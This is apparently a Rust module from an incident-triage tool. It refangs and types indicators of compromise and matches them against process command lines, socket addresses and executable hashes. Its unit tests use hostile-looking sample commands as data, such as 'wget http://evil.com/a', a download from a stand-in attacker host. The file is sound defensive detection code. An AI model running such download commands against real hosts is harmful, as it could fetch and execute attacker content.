//! Matching a supplied indicator list against what triage collected.
//! Indicators are refanged and typed by the IOC crate; hashes are compared
//! with the hashes of running executables (read through /proc/PID/exe, so a
//! deleted binary is hashed too), CIDRs with socket addresses, and every
//! other indicator is looked for as a whole token in command lines, paths,
//! autorun entries, socket addresses and login sources.

use std::collections::{BTreeMap, HashMap, HashSet};
use std::io::Read;
use std::net::IpAddr;

use bulwark_core::ToolError;
use schemars::JsonSchema;
use serde::Serialize;

use super::rank::{self, Item};
use crate::live::common::Budget;

/// One indicator, normalized.
#[derive(Debug, Clone, PartialEq)]
pub struct Needle {
    /// As the caller wrote it.
    pub original: String,
    /// Refanged, lowercase.
    pub value: String,
    /// An IOC type (`ipv4`, `domain`, `sha256` ...) or `string`.
    pub kind: String,
    net: Option<(IpAddr, u8)>,
}

/// Something indicators are looked for in.
#[derive(Debug, Clone)]
pub struct Haystack {
    /// The object, as a title: `process nc (pid 42)`.
    pub object: String,
    /// Which of its fields: `cmdline`, `exe`, `remote_address` ...
    pub field: &'static str,
    pub text: String,
    pub pid: Option<i32>,
    pub path: Option<String>,
}

/// One indicator found.
#[derive(Debug, Clone, Serialize, JsonSchema)]
pub struct IocHit {
    pub indicator: String,
    /// The indicator's type.
    #[serde(rename = "type")]
    pub kind: String,
    pub object: String,
    pub field: String,
    /// The text it was found in (cut to 300 characters).
    pub value: String,
}

#[derive(Debug, Clone, Default, Serialize, JsonSchema)]
pub struct IocSummary {
    /// Indicators supplied.
    pub indicators: usize,
    /// Indicators by type.
    pub by_type: BTreeMap<String, usize>,
    pub hits: Vec<IocHit>,
    /// Distinct executables hashed for hash indicators.
    pub executables_hashed: usize,
}

fn is_hex(s: &str) -> bool {
    s.bytes().all(|b| b.is_ascii_hexdigit())
}

fn parse_cidr(s: &str) -> Option<(IpAddr, u8)> {
    let (ip, bits) = s.split_once('/')?;
    let ip: IpAddr = ip.parse().ok()?;
    let bits: u8 = bits.parse().ok()?;
    let max = if ip.is_ipv4() { 32 } else { 128 };
    (bits <= max).then_some((ip, bits))
}

fn in_net(ip: IpAddr, (net, bits): (IpAddr, u8)) -> bool {
    match (ip, net) {
        (IpAddr::V4(a), IpAddr::V4(n)) => {
            let mask = if bits == 0 {
                0
            } else {
                u32::MAX << (32 - bits)
            };
            u32::from(a) & mask == u32::from(n) & mask
        }
        (IpAddr::V6(a), IpAddr::V6(n)) => {
            let mask = if bits == 0 {
                0
            } else {
                u128::MAX << (128 - bits)
            };
            u128::from(a) & mask == u128::from(n) & mask
        }
        _ => false,
    }
}

/// Refang and type each indicator; an empty or too short one is an error naming it.
pub fn normalize(list: &[String]) -> Result<Vec<Needle>, ToolError> {
    let mut out: Vec<Needle> = Vec::new();
    let options = bulwark_ioc::ExtractOptions::default();
    for (i, original) in list.iter().enumerate() {
        let value = bulwark_ioc::refang_str(original.trim())
            .trim()
            .to_lowercase();
        if value.chars().count() < 3 {
            return Err(ToolError::InvalidArguments(format!(
                "field `indicators[{i}]`: `{original}` is too short to match safely; give at least 3 characters"
            )));
        }
        let mut net = None;
        let kind = if let Ok(ip) = value.parse::<IpAddr>() {
            if ip.is_ipv4() { "ipv4" } else { "ipv6" }.to_string()
        } else if let Some(n) = parse_cidr(&value) {
            net = Some(n);
            "cidr".to_string()
        } else if is_hex(&value) && matches!(value.len(), 32 | 40 | 64 | 128) {
            match value.len() {
                32 => "md5",
                40 => "sha1",
                64 => "sha256",
                _ => "sha512",
            }
            .to_string()
        } else {
            bulwark_ioc::extract(&value, &options)
                .ok()
                .and_then(|e| {
                    e.indicators
                        .into_iter()
                        .find(|ind| ind.value.to_lowercase() == value)
                        .map(|ind| ind.kind.as_str().to_string())
                })
                .unwrap_or_else(|| "string".into())
        };
        if !out.iter().any(|n| n.value == value) {
            out.push(Needle {
                original: original.clone(),
                value,
                kind,
                net,
            });
        }
    }
    Ok(out)
}

fn boundary(c: Option<char>) -> bool {
    c.is_none_or(|c| !(c.is_alphanumeric() || c == '_' || c == '-'))
}

/// `needle` (lowercase) in `hay` as a whole token: not glued to letters,
/// digits, `_` or `-` on either side (so 1.2.3.4 is not found in 11.2.3.45,
/// but evil.com is found in sub.evil.com and in http://evil.com/x).
pub fn contains_token(hay: &str, needle: &str) -> bool {
    let hay = hay.to_lowercase();
    let mut from = 0;
    while let Some(at) = hay[from..].find(needle) {
        let start = from + at;
        let end = start + needle.len();
        let before = hay[..start].chars().next_back();
        let after = hay[end..].chars().next();
        let before_ok = boundary(before) || needle.starts_with(|c: char| !c.is_alphanumeric());
        let after_ok = boundary(after) || needle.ends_with(|c: char| !c.is_alphanumeric());
        if before_ok && after_ok {
            return true;
        }
        from = start + needle.chars().next().map_or(1, char::len_utf8);
    }
    false
}

fn cut(text: &str) -> String {
    text.chars().take(300).collect()
}

/// Digests of one executable, for the algorithms asked about.
fn digests(pid: i32, want: &HashSet<usize>, max_bytes: u64) -> Option<Vec<String>> {
    use md5::Digest as _;
    let path = format!("/proc/{pid}/exe");
    let meta = std::fs::metadata(&path).ok()?;
    if meta.len() > max_bytes {
        return None;
    }
    let mut file = std::fs::File::open(&path).ok()?;
    let mut md5 = want.contains(&32).then(md5::Md5::new);
    let mut sha1 = want.contains(&40).then(sha1::Sha1::new);
    let mut sha256 = want.contains(&64).then(sha2::Sha256::new);
    let mut sha512 = want.contains(&128).then(sha2::Sha512::new);
    let mut buf = vec![0u8; 1 << 16];
    loop {
        let n = file.read(&mut buf).ok()?;
        if n == 0 {
            break;
        }
        let chunk = &buf[..n];
        if let Some(h) = &mut md5 {
            h.update(chunk);
        }
        if let Some(h) = &mut sha1 {
            h.update(chunk);
        }
        if let Some(h) = &mut sha256 {
            h.update(chunk);
        }
        if let Some(h) = &mut sha512 {
            h.update(chunk);
        }
    }
    let mut out = Vec::new();
    out.extend(md5.map(|h| hex::encode(h.finalize())));
    out.extend(sha1.map(|h| hex::encode(h.finalize())));
    out.extend(sha256.map(|h| hex::encode(h.finalize())));
    out.extend(sha512.map(|h| hex::encode(h.finalize())));
    Some(out)
}

/// Per object an indicator was found in: its pid, path and the evidence lines.
type Found = (Option<i32>, Option<String>, Vec<String>);

/// Look for every needle; `executables` are (pid, title, exe path) of the processes to hash.
pub fn find(
    needles: &[Needle],
    haystacks: &[Haystack],
    executables: &[(i32, String, String)],
    budget: &mut Budget,
) -> (IocSummary, Vec<Item>) {
    let mut summary = IocSummary {
        indicators: needles.len(),
        ..IocSummary::default()
    };
    for n in needles {
        *summary.by_type.entry(n.kind.clone()).or_insert(0) += 1;
    }
    let mut found: BTreeMap<String, Found> = BTreeMap::new();
    let mut record = |summary: &mut IocSummary, n: &Needle, h: &Haystack| {
        summary.hits.push(IocHit {
            indicator: n.original.clone(),
            kind: n.kind.clone(),
            object: h.object.clone(),
            field: h.field.into(),
            value: cut(&h.text),
        });
        let slot = found
            .entry(h.object.clone())
            .or_insert((h.pid, h.path.clone(), Vec::new()));
        slot.2.push(format!(
            "indicator `{}` ({}) in {}: {}",
            n.original,
            n.kind,
            h.field,
            cut(&h.text)
        ));
    };
    for n in needles
        .iter()
        .filter(|n| !n.kind.starts_with("md5") && !n.kind.starts_with("sha"))
    {
        for h in haystacks {
            let hit = match n.net {
                Some(net) => h.text.parse::<IpAddr>().is_ok_and(|ip| in_net(ip, net)),
                None => contains_token(&h.text, &n.value),
            };
            if hit {
                record(&mut summary, n, h);
            }
        }
    }
    let hashes: Vec<&Needle> = needles
        .iter()
        .filter(|n| n.kind.starts_with("md5") || n.kind.starts_with("sha"))
        .collect();
    if !hashes.is_empty() {
        let want: HashSet<usize> = hashes.iter().map(|n| n.value.len()).collect();
        let mut seen: HashMap<(u64, u64), Vec<String>> = HashMap::new();
        for (pid, object, exe) in executables {
            if budget.out_of_time() {
                break;
            }
            use std::os::unix::fs::MetadataExt;
            let Ok(meta) = std::fs::metadata(format!("/proc/{pid}/exe")) else {
                continue;
            };
            let key = (meta.dev(), meta.ino());
            let sums = match seen.get(&key) {
                Some(s) => s.clone(),
                None => {
                    let Some(s) = digests(*pid, &want, budget.limits.max_file_bytes) else {
                        continue;
                    };
                    seen.insert(key, s.clone());
                    s
                }
            };
            for n in &hashes {
                if sums.contains(&n.value) {
                    let h = Haystack {
                        object: object.clone(),
                        field: "exe_hash",
                        text: format!("{} {}", n.value, exe),
                        pid: Some(*pid),
                        path: Some(exe.clone()),
                    };
                    record(&mut summary, n, &h);
                }
            }
        }
        summary.executables_hashed = seen.len();
    }
    let items = found
        .into_iter()
        .filter_map(|(object, (pid, path, evidence))| {
            let flags = evidence
                .into_iter()
                .map(|reason| rank::Flag { weight: 90, reason })
                .collect();
            let mut item = rank::item("ioc", format!("indicator match in {object}"), flags)?;
            item.pid = pid;
            item.path = path;
            Some(item)
        })
        .collect();
    (summary, items)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hay(text: &str) -> Haystack {
        Haystack {
            object: "process x (pid 1)".into(),
            field: "cmdline",
            text: text.into(),
            pid: Some(1),
            path: None,
        }
    }

    #[test]
    fn indicators_are_refanged_and_typed() {
        let n = normalize(&[
            "evil[.]example[.]com".into(),
            "203.0.113[.]9".into(),
            "10.0.0.0/8".into(),
            "D41D8CD98F00B204E9800998ECF8427E".into(),
            "hxxp://bad[.]example[.]com/x".into(),
            "backdoor-tool".into(),
        ])
        .unwrap();
        let kinds: Vec<(&str, &str)> = n
            .iter()
            .map(|n| (n.value.as_str(), n.kind.as_str()))
            .collect();
        assert_eq!(
            kinds,
            [
                ("evil.example.com", "domain"),
                ("203.0.113.9", "ipv4"),
                ("10.0.0.0/8", "cidr"),
                ("d41d8cd98f00b204e9800998ecf8427e", "md5"),
                ("http://bad.example.com/x", "url"),
                ("backdoor-tool", "string"),
            ]
        );
        let err = normalize(&["ok.example".into(), " x ".into()]).unwrap_err();
        assert!(err.to_string().contains("indicators[1]"), "{err}");
    }

    #[test]
    fn tokens_match_whole() {
        assert!(contains_token("connect 1.2.3.4:80", "1.2.3.4"));
        assert!(!contains_token("connect 11.2.3.45", "1.2.3.4"));
        assert!(contains_token("curl http://sub.EVIL.com/x", "evil.com"));
        assert!(!contains_token("notevil.company", "evil.com"));
        assert!(contains_token("/tmp/x/y", "/tmp/x"));
        assert!(!contains_token("/tmp/xy", "/tmp/x"));
    }

    #[test]
    fn hits_become_critical_items_with_evidence() {
        let needles = normalize(&["evil[.]com".into(), "192.0.2.0/24".into()]).unwrap();
        let mut addr = hay("192.0.2.77");
        addr.object = "socket tcp 192.0.2.77:443".into();
        addr.field = "remote_address";
        let hays = [hay("wget http://evil.com/a"), hay("ls"), addr];
        let mut budget = Budget::for_tests(crate::live::Limits::default());
        let (summary, items) = find(&needles, &hays, &[], &mut budget);
        assert_eq!(summary.hits.len(), 2);
        assert_eq!(items.len(), 2);
        assert!(items.iter().all(|i| i.severity == "critical"));
        assert!(
            items
                .iter()
                .any(|i| i.evidence[0].contains("`evil[.]com` (domain) in cmdline"))
        );
    }

    #[test]
    fn own_executable_hash_is_found() {
        let exe = std::fs::read("/proc/self/exe").unwrap();
        use sha2::Digest;
        let sum = hex::encode(sha2::Sha256::digest(&exe));
        let needles = normalize(&[sum.to_uppercase()]).unwrap();
        let me = std::process::id() as i32;
        let mut budget = Budget::for_tests(crate::live::Limits::default());
        let (summary, items) = find(
            &needles,
            &[],
            &[(me, "process self".into(), "/proc/self/exe".into())],
            &mut budget,
        );
        assert_eq!(summary.executables_hashed, 1);
        assert_eq!(summary.hits.len(), 1, "{summary:?}");
        assert_eq!(items[0].pid, Some(me));
    }
}
